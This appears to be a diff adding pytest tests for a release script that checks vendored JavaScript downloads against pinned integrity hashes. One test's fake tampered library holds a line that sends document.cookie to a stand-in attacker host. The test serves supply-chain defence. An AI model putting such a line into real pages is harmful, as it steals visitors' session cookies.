@@ -0,0 +1,107 @@
+"""
+Release build inputs and output. The vendored libraries must be verified
+against the committed lock: an unpinned URL or a download that does not
+match its pinned hash fails the build and is never written to vendor/.
+The minified page script must still parse.
+"""
+
+import json
+import os
+import re
+import shutil
+import subprocess
+import sys
+
+import pytest
+
+ROOT = os.path.dirname(os.path.dirname(os.path.abspath(__file__)))
+sys.path.insert(0, ROOT)
+
+import release  # noqa: E402
+
+NODE = shutil.which('node')
+
+URL = 'https://cdn.example/lib/1.0/lib.min.js'
+LIBRARY = b'/* lib 1.0 */ window.lib = {};\n'
+
+
+class FakeResponse:
+    def __init__(self, data):
+        self.data = data
+
+    def __enter__(self):
+        return self
+
+    def __exit__(self, *exc):
+        return False
+
+    def read(self):
+        return self.data
+
+
+def serve(monkeypatch, data):
+    fetched = []
+
+    def urlopen(url, timeout=None):
+        fetched.append(url)
+        return FakeResponse(data)
+    monkeypatch.setattr(release.urllib.request, 'urlopen', urlopen)
+    return fetched
+
+
+def lock_for(data):
+    return {URL: {'file': 'vendor/lib.min.js', 'integrity': release.sri_hash(data, 'sha512')}}
+
+
+def test_committed_lock_pins_every_vendor_script():
+    with open(os.path.join(ROOT, 'index.html'), 'r') as f:
+        html = f.read()
+    with open(os.path.join(ROOT, release.VENDOR_LOCK), 'r') as f:
+        lock = json.load(f)
+    entries = release.VENDOR_ENTRY.findall(release.VENDOR_SCRIPTS.search(html).group())
+    assert len(entries) == 3
+    for name, src, url in entries:
+        assert lock[url]['file'] == src
+        assert re.fullmatch(r'sha(256|384|512)-[A-Za-z0-9+/]+={0,2}', lock[url]['integrity'])
+
+
+def test_matching_download_is_kept(tmp_path, monkeypatch):
+    fetched = serve(monkeypatch, LIBRARY)
+    assert release.vendor_file('vendor/lib.min.js', URL, str(tmp_path), lock_for(LIBRARY)) == LIBRARY
+    assert (tmp_path / 'vendor' / 'lib.min.js').read_bytes() == LIBRARY
+
+    # The local copy is reused (and still verified) on the next build
+    assert release.vendor_file('vendor/lib.min.js', URL, str(tmp_path), lock_for(LIBRARY)) == LIBRARY
+    assert fetched == [URL]
+
+
+def test_tampered_download_is_rejected(tmp_path, monkeypatch):
+    serve(monkeypatch, LIBRARY + b'fetch("https://evil.example/" + document.cookie);\n')
+    with pytest.raises(ValueError, match='does not match the hash pinned'):
+        release.vendor_file('vendor/lib.min.js', URL, str(tmp_path), lock_for(LIBRARY))
+    assert not (tmp_path / 'vendor' / 'lib.min.js').exists()
+
+
+def test_tampered_local_copy_is_rejected(tmp_path, monkeypatch):
+    fetched = serve(monkeypatch, LIBRARY)
+    (tmp_path / 'vendor').mkdir()
+    (tmp_path / 'vendor' / 'lib.min.js').write_bytes(b'window.lib = null;\n')
+    with pytest.raises(ValueError, match='does not match the hash pinned'):
+        release.vendor_file('vendor/lib.min.js', URL, str(tmp_path), lock_for(LIBRARY))
+    assert fetched == []
+
+
+def test_unpinned_url_is_refused(tmp_path, monkeypatch):
+    fetched = serve(monkeypatch, LIBRARY)
+    with pytest.raises(ValueError, match='is not pinned'):
+        release.vendor_file('vendor/lib.min.js', URL, str(tmp_path), {})
+    assert fetched == [] and not (tmp_path / 'vendor').exists()
+
+
+@pytest.mark.skipif(NODE is None, reason='node is not installed')
+def test_release_js_parses(tmp_path):
+    with open(os.path.join(ROOT, 'index.html'), 'r') as f:
+        html = f.read()
+    path = tmp_path / 'app.js'
+    path.write_text(release.minify_js(re.search(r'<script>(.*?)</script>', html, re.S).group(1)))
+    subprocess.run([NODE, '--check', str(path)], check=True)